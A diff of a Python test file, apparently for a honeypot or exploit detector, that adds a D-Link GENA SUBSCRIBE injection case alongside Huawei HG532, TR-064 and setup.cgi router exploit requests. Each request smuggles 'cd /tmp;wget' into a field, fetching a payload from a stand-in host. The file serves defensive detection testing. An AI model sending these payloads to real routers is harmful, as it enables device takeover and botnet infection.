@@ -84,13 +84,15 @@ def test_what_everything_is_searched_by_is_described() -> None:
                 NewDownloadURL="$(echo HUAWEIUPNP)"), "huawei-hg532", "CVE-2017-17215"),
         (called("SetNTPServers", path="/UD/act?1", NewNTPServer1="`cd /tmp;wget http://198.51.100.7/x`"), "tr064-ntp",
          "CVE-2016-10372"),
+        (b"SUBSCRIBE /gena.cgi?service=`cd%20/tmp;wget%20http://198.51.100.7/x` HTTP/1.0\r\nCallback: <http://198.51.100.7/>\r\n"
+         b"\r\n", "dlink-gena", "CVE-2019-17621"),
         (b"GET /setup.cgi?a=1;cd%20/tmp;wget%20http://198.51.100.7/x HTTP/1.1\r\n\r\n", "shell-injection", "CWE-78"),
     ],
 )  # fmt: skip
 def test_a_command_in_a_call_runs(request_: bytes, name: str, reference: str, split: int) -> None:
     table = talk()
     table.say(request_, split)
-    assert table.sent.startswith(b"HTTP/1.1 200 OK\r\n" if b"POST" in request_ else b"HTTP/1.1 404 Not Found\r\n")
+    assert table.sent.startswith(b"HTTP/1.1 404 Not Found\r\n" if b"setup.cgi" in request_ else b"HTTP/1.1 200 OK\r\n")
     ((found, cve, command),) = exploits(table)
     assert (found, cve) == (name, reference)
     assert command.endswith("cd /tmp;wget http://198.51.100.7/x")
